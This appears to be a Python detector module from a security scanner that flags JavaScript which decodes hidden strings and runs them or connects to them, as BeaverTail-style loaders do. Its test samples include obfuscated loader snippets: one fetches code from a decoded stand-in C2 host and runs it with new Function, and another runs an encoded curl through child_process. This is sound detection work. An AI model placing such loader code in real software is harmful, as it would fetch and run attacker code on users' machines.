"""JavaScript that decodes a string and hands it to eval/Function/child_process/require or uses it
as a network address: the core of BeaverTail-style loaders, found by data flow, not keywords."""

from __future__ import annotations

from collections.abc import Iterator

from heistguard.artifacts.detectors.base import Detector, Sample, ScanContext, Target, is_js
from heistguard.artifacts.detectors.flow import JS_DECODE_TRIGGERS, js_flows, js_may_flow
from heistguard.findings import Finding, Rule, Severity

RULE = Rule(
    id="artifacts.js-decoded-exec",
    severity=Severity.HIGH,
    title="JavaScript runs or connects to a string it decoded at run time",
    rationale="Loaders hide their next stage and their server address as base64, char codes or an "
    "obfuscator's string array, decode it at run time and pass it to eval, Function, child_process, "
    "require or an HTTP call. Honest code does not need to hide what it runs or where it connects.",
    attack=("T1059.007", "T1027", "T1140"),
    references=("https://attack.mitre.org/techniques/T1140/",),
)


def _check(target: Target, ctx: ScanContext) -> Iterator[Finding]:
    if not js_may_flow(target.data):
        return
    seen: set[str] = set()
    for flow in js_flows(target.text):
        what = "runs decoded code" if flow.sink == "exec" else "connects to a decoded address"
        if what in seen:
            continue
        seen.add(what)
        yield RULE.finding(f"{target.name} {what}", [target.evidence(flow.offset)], severity=Severity.HIGH)


DETECTOR = Detector(
    rule=RULE,
    applies=lambda t: is_js(t) or (t.is_text and t.member.filetype.detail == "javascript"),
    check=_check,
    triggers=JS_DECODE_TRIGGERS,
    bad=(
        Sample("lib/loader.js", b"const s = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();\neval(s);\n"),
        Sample(
            "server/config.js",
            b"const h = atob('aHR0cHM6Ly9jMi5leGFtcGxlLmludmFsaWQ=');\nconst request = require('request');\n"
            b"request.get(h + '/client/99', (e, r, b) => { new Function('require', b)(require); });\n",
        ),
        Sample(
            "index.js",
            b"const cp = require('child_process');\n"
            b"cp.exec(String.fromCharCode(99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,120));\n",
        ),
    ),
    good=(
        Sample(
            "lib/util.js", b"const s = Buffer.from(data, 'base64');\nfs.writeFileSync(out, s);\nexec('git status');\n"
        ),
        Sample("app.js", b"const url = 'https://api.example.org/v1';\nfetch(url).then(r => r.json());\n"),
    ),
)
